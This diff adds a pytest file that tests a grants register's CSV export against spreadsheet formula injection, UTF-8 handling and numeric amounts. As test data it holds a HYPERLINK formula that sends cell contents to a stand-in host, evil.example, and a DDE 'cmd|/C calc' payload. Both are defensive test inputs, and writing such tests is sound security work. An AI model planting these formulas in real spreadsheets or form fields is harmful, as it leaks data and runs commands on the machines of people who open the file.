@@ -1,0 +1,128 @@
+"""The register's CSV export is safe to open in a spreadsheet (OWASP CSV injection: a cell
+that would start a formula gets a leading quote), keeps amounts as plain numbers, and is
+UTF-8 whatever the names' letters."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import httpx
+import pytest
+from sqlalchemy import update
+from sqlalchemy.ext.asyncio import AsyncSession
+
+from app.api.v1.transparency import spreadsheet_safe
+from app.core.auth import Role
+from app.core.config import Settings
+from app.models import Application, Organisation
+from app.schemas.transparency import CSV_HEADER
+from tests.actors import user_actor
+from tests.world import Budget, approved, budget
+
+CSV = "/api/v1/transparency/grants.csv"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Dettagli")'
+ITALIAN = "Società Cooperativa Sociale Àrea"
+COLUMN = {name: index for index, name in enumerate(CSV_HEADER)}
+
+
+async def granted(
+    client: httpx.AsyncClient,
+    session: AsyncSession,
+    settings: Settings,
+    world: Budget,
+    *,
+    n: int,
+    beneficiary: str,
+    title: str,
+    amount: str,
+) -> None:
+    application = await approved(session, world, requested=10_000, n=n)
+    await session.execute(
+        update(Organisation)
+        .where(Organisation.id == application.applicant_organisation_id)
+        .values(legal_name=beneficiary)
+    )
+    await session.execute(
+        update(Application).where(Application.id == application.id).values(title=title)
+    )
+    officer = await user_actor(session, settings, Role.OFFICER)
+    response = await client.post(
+        "/api/v1/allocations",
+        json={"application_id": str(application.id), "amount": amount},
+        headers=officer.headers,
+    )
+    assert response.status_code == 201, response.text
+
+
+async def exported(client: httpx.AsyncClient) -> tuple[bytes, list[list[str]]]:
+    response = await client.get(CSV)
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
+    assert rows[0] == list(CSV_HEADER)
+    return response.content, rows[1:]
+
+
+async def test_a_formula_is_shown_as_text_and_the_amount_stays_a_number(
+    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
+) -> None:
+    world = await budget(session, total=100_000)
+    await granted(
+        client,
+        session,
+        settings,
+        world,
+        n=1,
+        beneficiary=HYPERLINK,
+        title="@SUM(1+1)*cmd|' /C calc'!A0",
+        amount="1234.50",
+    )
+    _, rows = await exported(client)
+    (row,) = rows
+    assert row[COLUMN["beneficiary_name"]] == "'" + HYPERLINK
+    assert row[COLUMN["project_title"]] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row[COLUMN["amount"]] == "1234.50"
+    assert float(row[COLUMN["amount"]]) == 1234.5
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+async def test_names_are_utf8_and_plain_text_is_left_alone(
+    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
+) -> None:
+    world = await budget(session, total=100_000)
+    await granted(
+        client,
+        session,
+        settings,
+        world,
+        n=2,
+        beneficiary=ITALIAN,
+        title="Città più accogliente: 100% inclusione",
+        amount="9000.00",
+    )
+    body, rows = await exported(client)
+    (row,) = rows
+    assert ITALIAN.encode("utf-8") in body
+    assert "Società".encode("latin-1") not in body
+    assert row[COLUMN["beneficiary_name"]] == ITALIAN
+    assert row[COLUMN["project_title"]] == "Città più accogliente: 100% inclusione"
+    assert row[COLUMN["amount"]] == "9000.00"
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+39 011 432 1111", "'+39 011 432 1111"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("Cooperativa = Aurora", "Cooperativa = Aurora"),
+        ("1234.50", "1234.50"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe(cell: str, shown: str) -> None:
+    assert spreadsheet_safe(cell) == shown
